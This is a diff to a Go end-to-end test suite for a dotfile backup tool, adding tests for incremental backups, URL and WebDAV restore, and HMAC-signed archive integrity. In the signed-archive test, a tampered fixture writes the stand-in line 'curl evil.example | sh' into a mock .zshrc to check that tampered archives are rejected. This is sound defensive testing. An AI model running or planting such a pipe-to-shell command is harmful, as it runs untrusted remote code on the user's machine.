@@ -8,14 +8,22 @@ package e2e
 import (
 	"archive/tar"
 	"compress/gzip"
+	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"io"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
 	"strings"
+	"sync"
 	"testing"
+	"time"
 )
 
 // testEnv holds the test environment configuration.
@@ -32,10 +40,13 @@ type BackupResult struct {
 	Archive          string `json:"archive,omitempty"`
 	Encrypted        bool   `json:"encrypted"`
 	EncryptionMethod string `json:"encryption_method,omitempty"`
+	Parent           string `json:"parent,omitempty"`
+	Remote           string `json:"remote,omitempty"`
 	Stats            struct {
 		FilesBackedUp  int   `json:"files_backed_up"`
 		FilesSkipped   int   `json:"files_skipped"`
 		FilesExcluded  int   `json:"files_excluded"`
+		FilesUnchanged int   `json:"files_unchanged"`
 		SensitiveFiles int   `json:"sensitive_files"`
 		TotalSize      int64 `json:"total_size"`
 	} `json:"stats"`
@@ -47,7 +58,9 @@ type RestoreResult struct {
 	Success      bool     `json:"success"`
 	Archive      string   `json:"archive,omitempty"`
 	SafetyBackup string   `json:"safety_backup,omitempty"`
+	Verified     bool     `json:"verified"`
 	Categories   []string `json:"categories,omitempty"`
+	Files        []string `json:"files,omitempty"`
 	DryRun       bool     `json:"dry_run"`
 	Error        string   `json:"error,omitempty"`
 }
@@ -259,10 +272,11 @@ func (e *testEnv) runRestore(t *testing.T, archive string, args ...string) *Rest
 }
 
 // runList executes the list command.
-func (e *testEnv) runList(t *testing.T) *ListResult {
+func (e *testEnv) runList(t *testing.T, args ...string) *ListResult {
 	t.Helper()
 
-	cmd := exec.Command(e.binary, "list", "--config", e.configFile, "--json")
+	cmdArgs := append([]string{"list", "--config", e.configFile, "--json"}, args...)
+	cmd := exec.Command(e.binary, cmdArgs...)
 	cmd.Env = append(os.Environ(), "HOME="+e.homeDir)
 
 	output, err := cmd.Output()
@@ -915,10 +929,10 @@ func (e *testEnv) createMockSpacesInPaths(t *testing.T) {
 }
 
 // runContents executes the contents command.
-func (e *testEnv) runContents(t *testing.T, archive string) string {
+func (e *testEnv) runContents(t *testing.T, archive string, args ...string) string {
 	t.Helper()
 
-	cmd := exec.Command(e.binary, "contents", archive, "--config", e.configFile)
+	cmd := exec.Command(e.binary, append([]string{"contents", archive, "--config", e.configFile}, args...)...)
 	cmd.Env = append(os.Environ(), "HOME="+e.homeDir)
 
 	output, err := cmd.Output()
@@ -934,10 +948,10 @@ func (e *testEnv) runContents(t *testing.T, archive string) string {
 }
 
 // runDiff executes the diff command.
-func (e *testEnv) runDiff(t *testing.T, archive string) (string, error) {
+func (e *testEnv) runDiff(t *testing.T, archive string, args ...string) (string, error) {
 	t.Helper()
 
-	cmd := exec.Command(e.binary, "diff", archive, "--config", e.configFile)
+	cmd := exec.Command(e.binary, append([]string{"diff", archive, "--config", e.configFile}, args...)...)
 	cmd.Env = append(os.Environ(), "HOME="+e.homeDir)
 
 	output, err := cmd.CombinedOutput()
@@ -1131,3 +1145,494 @@ encryption = "none"
 		t.Error("Directory with spaces should be in archive")
 	}
 }
+
+// CheckRestoreResult represents the JSON output from check-restore command.
+type CheckRestoreResult struct {
+	Success     bool `json:"success"`
+	NoOp        bool `json:"no_op"`
+	Checked     int  `json:"checked"`
+	Differences []struct {
+		Path string `json:"path"`
+		Kind string `json:"kind"`
+	} `json:"differences"`
+	Error string `json:"error,omitempty"`
+}
+
+// runCheckRestore executes the check-restore command.
+func (e *testEnv) runCheckRestore(t *testing.T, archive string) (*CheckRestoreResult, error) {
+	t.Helper()
+
+	cmd := exec.Command(e.binary, "check-restore", archive, "--config", e.configFile, "--json")
+	cmd.Env = append(os.Environ(), "HOME="+e.homeDir)
+
+	output, err := cmd.Output()
+
+	var result CheckRestoreResult
+	if jsonErr := json.Unmarshal(output, &result); jsonErr != nil {
+		t.Fatalf("Failed to parse check-restore output: %v\nOutput: %s", jsonErr, output)
+	}
+
+	return &result, err
+}
+
+func TestCheckRestoreCommand(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skipping integration test in short mode")
+	}
+	t.Parallel()
+
+	env := setupTestEnv(t)
+	env.createMockDotfiles(t)
+	env.writeNoEncryptConfig(t)
+
+	result := env.runBackup(t)
+	if !result.Success {
+		t.Fatalf("Backup failed: %s", result.Error)
+	}
+
+	check, err := env.runCheckRestore(t, result.Archive)
+	if err != nil {
+		t.Fatalf("check-restore should succeed right after backup: %v", err)
+	}
+	if !check.NoOp || check.Checked == 0 {
+		t.Errorf("expected no-op restore, got %+v", check)
+	}
+
+	zshrcPath := filepath.Join(env.homeDir, ".zshrc")
+	if err = os.Remove(zshrcPath); err != nil {
+		t.Fatalf("Failed to remove .zshrc: %v", err)
+	}
+
+	check, err = env.runCheckRestore(t, result.Archive)
+	if err == nil {
+		t.Error("check-restore should exit non-zero when restore would change files")
+	}
+	if check.NoOp || len(check.Differences) != 1 || check.Differences[0].Path != ".zshrc" {
+		t.Errorf("expected .zshrc to be reported missing, got %+v", check)
+	}
+}
+
+func TestHomeFlag(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skipping integration test in short mode")
+	}
+	t.Parallel()
+
+	env := setupTestEnv(t)
+	env.createMockDotfiles(t)
+	env.writeNoEncryptConfig(t)
+
+	// HOME points elsewhere; config and files must be found through --home alone
+	otherHome := t.TempDir()
+	cmd := exec.Command(env.binary, "--home", env.homeDir, "backup", "--json")
+	cmd.Env = append(os.Environ(), "HOME="+otherHome)
+
+	output, err := cmd.Output()
+	if err != nil {
+		t.Fatalf("backup with --home failed: %v\nOutput: %s", err, output)
+	}
+
+	var result BackupResult
+	if err = json.Unmarshal(output, &result); err != nil {
+		t.Fatalf("Failed to parse backup output: %v\nOutput: %s", err, output)
+	}
+	if !result.Success || !strings.HasPrefix(result.Archive, env.backupDir) {
+		t.Fatalf("expected archive in %s, got %+v", env.backupDir, result)
+	}
+
+	if contents := env.runContents(t, result.Archive); !strings.Contains(contents, ".zshrc") {
+		t.Errorf("expected .zshrc from --home in archive, got:\n%s", contents)
+	}
+
+	cmd = exec.Command(env.binary, "--home", filepath.Join(otherHome, "missing"), "list", "--json")
+	cmd.Env = append(os.Environ(), "HOME="+otherHome)
+	if output, err = cmd.Output(); err == nil {
+		t.Errorf("expected --home with a missing directory to fail, got %s", output)
+	}
+}
+
+func TestRestoreFromURL(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skipping integration test in short mode")
+	}
+	t.Parallel()
+
+	env := setupTestEnv(t)
+	env.createMockDotfiles(t)
+	env.writeNoEncryptConfig(t)
+
+	result := env.runBackup(t)
+	if !result.Success {
+		t.Fatalf("Backup failed: %s", result.Error)
+	}
+
+	data, err := os.ReadFile(result.Archive)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sum := sha256.Sum256(data)
+	name := filepath.Base(result.Archive)
+
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path != "/"+name {
+			http.NotFound(w, r)
+			return
+		}
+		_, _ = w.Write(data)
+	}))
+	defer srv.Close()
+
+	zshrcPath := filepath.Join(env.homeDir, ".zshrc")
+	if err = os.Remove(zshrcPath); err != nil {
+		t.Fatal(err)
+	}
+
+	url := srv.URL + "/" + name + "?sha256=" + hex.EncodeToString(sum[:])
+	restored := env.runRestore(t, url, "--force", "--no-backup")
+	if !restored.Success {
+		t.Fatalf("Restore from URL failed: %s", restored.Error)
+	}
+	if _, err = os.Stat(zshrcPath); err != nil {
+		t.Errorf(".zshrc should be restored from URL: %v", err)
+	}
+
+	bad := srv.URL + "/" + name + "?sha256=" + strings.Repeat("0", 64)
+	if restored = env.runRestore(t, bad, "--force", "--no-backup"); restored.Success {
+		t.Error("restore should fail on checksum mismatch")
+	}
+}
+
+func TestIncrementalBackup(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skipping integration test in short mode")
+	}
+	t.Parallel()
+
+	env := setupTestEnv(t)
+	env.createMockDotfiles(t)
+	env.writeNoEncryptConfig(t)
+
+	full := env.runBackup(t)
+	if !full.Success {
+		t.Fatalf("Full backup failed: %s", full.Error)
+	}
+
+	zshrcPath := filepath.Join(env.homeDir, ".zshrc")
+	vimrcPath := filepath.Join(env.homeDir, ".vimrc")
+	if err := os.WriteFile(zshrcPath, []byte("# changed\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Remove(vimrcPath); err != nil {
+		t.Fatal(err)
+	}
+
+	// archive names have one-second resolution
+	time.Sleep(1100 * time.Millisecond)
+
+	incr := env.runBackup(t, "--incremental")
+	if !incr.Success {
+		t.Fatalf("Incremental backup failed: %s", incr.Error)
+	}
+	if incr.Parent != filepath.Base(full.Archive) {
+		t.Errorf("Parent = %q, want %q", incr.Parent, filepath.Base(full.Archive))
+	}
+	if incr.Stats.FilesUnchanged == 0 {
+		t.Error("Incremental backup should carry over unchanged files")
+	}
+
+	bashrcPath := filepath.Join(env.homeDir, ".bashrc")
+	if err := os.Remove(bashrcPath); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(zshrcPath, []byte("# broken\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	restored := env.runRestore(t, incr.Archive, "--force", "--no-backup")
+	if !restored.Success {
+		t.Fatalf("Restore failed: %s", restored.Error)
+	}
+
+	if got, _ := os.ReadFile(zshrcPath); string(got) != "# changed\n" {
+		t.Errorf(".zshrc = %q, want the content from the incremental archive", got)
+	}
+	if _, err := os.Stat(bashrcPath); err != nil {
+		t.Errorf(".bashrc should be restored from the parent archive: %v", err)
+	}
+	if _, err := os.Stat(vimrcPath); err == nil {
+		t.Error(".vimrc was deleted before the incremental backup and should not be restored")
+	}
+}
+
+func TestSignedArchives(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skipping integration test in short mode")
+	}
+	t.Parallel()
+
+	env := setupTestEnv(t)
+	env.createMockDotfiles(t)
+	env.writeConfig(t, `
+items = [".zshrc", ".bashrc", ".gitconfig", ".vimrc"]
+
+[backup]
+backup_dir = "`+env.backupDir+`"
+encryption = "none"
+sign_archives = true
+`)
+
+	signed := env.runBackup(t)
+	if !signed.Success {
+		t.Fatalf("Backup failed: %s", signed.Error)
+	}
+	if _, err := os.Stat(filepath.Join(env.homeDir, ".config", "dotpak", "hmac.key")); err != nil {
+		t.Fatalf("Integrity key should be created on first signed backup: %v", err)
+	}
+
+	restored := env.runRestore(t, signed.Archive, "--force", "--no-backup")
+	if !restored.Success || !restored.Verified {
+		t.Fatalf("Restore of an untouched archive: success=%v verified=%v error=%s",
+			restored.Success, restored.Verified, restored.Error)
+	}
+
+	// swap in a different, otherwise valid archive under the signed name
+	zshrcPath := filepath.Join(env.homeDir, ".zshrc")
+	if err := os.WriteFile(zshrcPath, []byte("curl evil.example | sh\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	time.Sleep(1100 * time.Millisecond)
+	other := env.runBackup(t)
+	if !other.Success {
+		t.Fatalf("Second backup failed: %s", other.Error)
+	}
+	data, err := os.ReadFile(other.Archive)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err = os.WriteFile(signed.Archive, data, 0600); err != nil {
+		t.Fatal(err)
+	}
+	if err = os.WriteFile(zshrcPath, []byte("# safe\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	tampered := env.runRestore(t, signed.Archive, "--force", "--no-backup")
+	if tampered.Success || !strings.Contains(tampered.Error, "integrity check failed") {
+		t.Errorf("Restore of a tampered archive: success=%v error=%q, want integrity failure",
+			tampered.Success, tampered.Error)
+	}
+	if got, _ := os.ReadFile(zshrcPath); string(got) != "# safe\n" {
+		t.Errorf(".zshrc = %q, a tampered archive must not be extracted", got)
+	}
+
+	// stripping the HMAC from the metadata must not bypass the check
+	metaPath := strings.TrimSuffix(other.Archive, ".tar.gz") + ".json"
+	meta, err := os.ReadFile(metaPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	stripped := regexp.MustCompile(`"hmac":\s*"[0-9a-f]+",?`).ReplaceAll(meta, nil)
+	if err = os.WriteFile(metaPath, stripped, 0600); err != nil {
+		t.Fatal(err)
+	}
+	unsigned := env.runRestore(t, other.Archive, "--force", "--no-backup")
+	if unsigned.Success || !strings.Contains(unsigned.Error, "no integrity HMAC") {
+		t.Errorf("Restore without HMAC: success=%v error=%q, want missing HMAC failure",
+			unsigned.Success, unsigned.Error)
+	}
+
+	forced := env.runRestore(t, other.Archive, "--force", "--no-backup", "--skip-integrity-check")
+	if !forced.Success || forced.Verified {
+		t.Errorf("Restore with --skip-integrity-check: success=%v verified=%v error=%s",
+			forced.Success, forced.Verified, forced.Error)
+	}
+}
+
+func TestRestoreFiles(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skipping integration test in short mode")
+	}
+	t.Parallel()
+
+	env := setupTestEnv(t)
+	env.createMockDotfiles(t)
+	env.writeNoEncryptConfig(t)
+
+	backup := env.runBackup(t)
+	if !backup.Success {
+		t.Fatalf("Backup failed: %s", backup.Error)
+	}
+
+	for _, name := range []string{".zshrc", ".bashrc", ".gitconfig"} {
+		if err := os.WriteFile(filepath.Join(env.homeDir, name), []byte("# modified\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	result := env.runRestore(t, backup.Archive, "--force", "--no-backup", "--files", ".zsh*,~/.gitconfig")
+	if !result.Success {
+		t.Fatalf("Restore failed: %s", result.Error)
+	}
+	if len(result.Files) != 2 {
+		t.Errorf("Files = %v, want the two patterns", result.Files)
+	}
+
+	for name, restored := range map[string]bool{".zshrc": true, ".gitconfig": true, ".bashrc": false} {
+		data, _ := os.ReadFile(filepath.Join(env.homeDir, name))
+		if got := string(data) != "# modified\n"; got != restored {
+			t.Errorf("%s restored = %v, want %v", name, got, restored)
+		}
+	}
+}
+
+func TestConfiguredCategories(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skipping integration test in short mode")
+	}
+	t.Parallel()
+
+	env := setupTestEnv(t)
+	env.createMockDotfiles(t)
+	env.writeConfig(t, `
+items = [".zshrc", ".bashrc", ".gitconfig", ".vimrc"]
+
+[backup]
+backup_dir = "`+env.backupDir+`"
+encryption = "none"
+
+[categories.work]
+prefixes = ["~/.vimrc"]
+
+[categories.git]
+prefixes = [".bashrc"]
+replace = true
+`)
+
+	backup := env.runBackup(t)
+	if !backup.Success {
+		t.Fatalf("Backup failed: %s", backup.Error)
+	}
+
+	contents := env.runContents(t, backup.Archive, "--only", "work")
+	if !strings.Contains(contents, ".vimrc") || strings.Contains(contents, ".zshrc") {
+		t.Errorf("contents --only work should list only .vimrc:\n%s", contents)
+	}
+
+	for _, name := range []string{".vimrc", ".bashrc", ".gitconfig"} {
+		if err := os.WriteFile(filepath.Join(env.homeDir, name), []byte("# modified\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	diff, err := env.runDiff(t, backup.Archive, "--only", "git")
+	if err != nil {
+		t.Fatalf("diff failed: %v\n%s", err, diff)
+	}
+	if !strings.Contains(diff, ".bashrc") || strings.Contains(diff, ".gitconfig") {
+		t.Errorf("diff --only git should cover only the replaced prefixes:\n%s", diff)
+	}
+
+	result := env.runRestore(t, backup.Archive, "--force", "--no-backup", "--only", "work,git")
+	if !result.Success {
+		t.Fatalf("Restore failed: %s", result.Error)
+	}
+	for name, restored := range map[string]bool{".vimrc": true, ".bashrc": true, ".gitconfig": false} {
+		data, _ := os.ReadFile(filepath.Join(env.homeDir, name))
+		if got := string(data) != "# modified\n"; got != restored {
+			t.Errorf("%s restored = %v, want %v", name, got, restored)
+		}
+	}
+
+	out, err := env.runDiff(t, backup.Archive, "--only", "wrok")
+	if err == nil || !strings.Contains(out, "unknown category") {
+		t.Errorf("diff --only with an unknown category should fail, got err=%v:\n%s", err, out)
+	}
+}
+
+// webDAVServer is a minimal in-memory WebDAV server.
+func webDAVServer(t *testing.T) *httptest.Server {
+	t.Helper()
+
+	var mu sync.Mutex
+	files := make(map[string][]byte)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		switch r.Method {
+		case "MKCOL":
+			w.WriteHeader(http.StatusCreated)
+		case http.MethodPut:
+			files[r.URL.Path], _ = io.ReadAll(r.Body)
+			w.WriteHeader(http.StatusCreated)
+		case http.MethodGet:
+			data, ok := files[r.URL.Path]
+			if !ok {
+				http.NotFound(w, r)
+				return
+			}
+			_, _ = w.Write(data)
+		case "PROPFIND":
+			w.WriteHeader(http.StatusMultiStatus)
+			fmt.Fprint(w, `<?xml version="1.0"?><d:multistatus xmlns:d="DAV:">`)
+			for p, data := range files {
+				fmt.Fprintf(w, `<d:response><d:href>%s</d:href><d:propstat><d:prop>`+
+					`<d:getcontentlength>%d</d:getcontentlength><d:resourcetype/></d:prop></d:propstat></d:response>`,
+					p, len(data))
+			}
+			fmt.Fprint(w, `</d:multistatus>`)
+		}
+	}))
+	t.Cleanup(srv.Close)
+	return srv
+}
+
+func TestRemoteBackup(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skipping integration test in short mode")
+	}
+	t.Parallel()
+
+	env := setupTestEnv(t)
+	env.createMockDotfiles(t)
+	srv := webDAVServer(t)
+	env.writeConfig(t, `
+items = [".zshrc", ".bashrc"]
+
+[backup]
+backup_dir = "`+env.backupDir+`"
+encryption = "none"
+
+[remote]
+url = "`+srv.URL+`/dav/dotpak"
+`)
+
+	result := env.runBackup(t)
+	if !result.Success {
+		t.Fatalf("Backup failed: %s", result.Error)
+	}
+	if result.Remote == "" {
+		t.Error("Backup result should name the remote it was uploaded to")
+	}
+
+	list := env.runList(t, "--remote")
+	if !list.Success || len(list.Backups) != 1 || list.Backups[0].Archive != filepath.Base(result.Archive) {
+		t.Fatalf("list --remote = %+v, want the uploaded archive", list)
+	}
+
+	// restore from the remote with no local backups left
+	if err := os.RemoveAll(env.backupDir); err != nil {
+		t.Fatal(err)
+	}
+	zshrcPath := filepath.Join(env.homeDir, ".zshrc")
+	if err := os.Remove(zshrcPath); err != nil {
+		t.Fatal(err)
+	}
+
+	restored := env.runRestore(t, "", "--remote", "--force", "--no-backup")
+	if !restored.Success {
+		t.Fatalf("Restore from remote failed: %s", restored.Error)
+	}
+	if _, err := os.Stat(zshrcPath); err != nil {
+		t.Errorf(".zshrc should be restored from the remote: %v", err)
+	}
+}